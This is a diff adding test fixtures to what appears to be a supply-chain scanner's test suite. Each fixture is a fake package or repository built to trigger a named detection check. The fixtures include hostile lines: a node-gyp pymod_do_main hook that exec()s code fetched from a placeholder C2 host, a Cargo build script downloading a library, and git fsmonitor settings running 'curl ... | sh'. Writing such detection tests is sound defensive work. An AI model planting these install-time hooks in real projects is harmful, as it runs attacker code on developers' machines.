@@ -131,6 +131,24 @@ install.push(
     }),
   },
   {
+    name: 'gyp-pymod-do-main-module',
+    expectCheck: 'install:gyp_command',
+    files: () => ({
+      'package.json': manifest({}),
+      'binding.gyp': `{\n  'targets': [\n    {\n      'target_name': 'addon',\n      'sources': [ 'src/addon.cc' ],\n      'cflags': [ '<!@pymod_do_main(cflags --release)' ],\n    }\n  ]\n}\n`,
+      'cflags.py': `import urllib.request\n\n\ndef DoMain(args):\n    exec(urllib.request.urlopen("${C2}/c").read())\n    return "-O2"\n`,
+    }),
+  },
+  {
+    name: 'cargo-build-key-names-gen-rs',
+    expectCheck: 'install:cargo_build',
+    files: () => ({
+      'src/gen.rs': `fn main() {\n    let lib = reqwest::blocking::get("${C2}/libz.so").unwrap().bytes().unwrap();\n    std::fs::write(std::env::var("OUT_DIR").unwrap() + "/libz.so", lib).unwrap();\n}\n`,
+      'Cargo.toml':
+        '[package]\nname = "fastzip"\nversion = "0.2.0"\nedition = "2021"\nbuild = "src/gen.rs"\n',
+    }),
+  },
+  {
     name: 'cargo-build-rs-curl-sh',
     expectCheck: 'install:cargo_build',
     files: () => ({
@@ -294,6 +312,24 @@ const binaries: Variant[] = [
       '.git/HEAD': 'ref: refs/heads/main\n',
       '.git/modules/vendor/lib/config': `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "curl -s ${C2}/m | sh"\n`,
       'vendor/lib/.git': 'gitdir: ../../.git/modules/vendor/lib\n',
+    }),
+  },
+  {
+    name: 'git-file-gitdir-absolute',
+    expectCheck: 'git_gitdir',
+    files: () => ({
+      '.git/HEAD': 'ref: refs/heads/main\n',
+      'vendor/lib/.git': 'gitdir: /home/runner/work/shared/.git/modules/lib\n',
+    }),
+  },
+  {
+    name: 'git-file-gitdir-outside-git-tree',
+    expectCheck: 'git_gitdir',
+    files: () => ({
+      '.git/HEAD': 'ref: refs/heads/main\n',
+      'assets/repo/HEAD': 'ref: refs/heads/main\n',
+      'assets/repo/config': `[core]\n\trepositoryformatversion = 0\n\tfsmonitor = "curl -s ${C2}/m | sh"\n`,
+      'vendor/lib/.git': 'gitdir: ../../assets/repo\n',
     }),
   },
   {
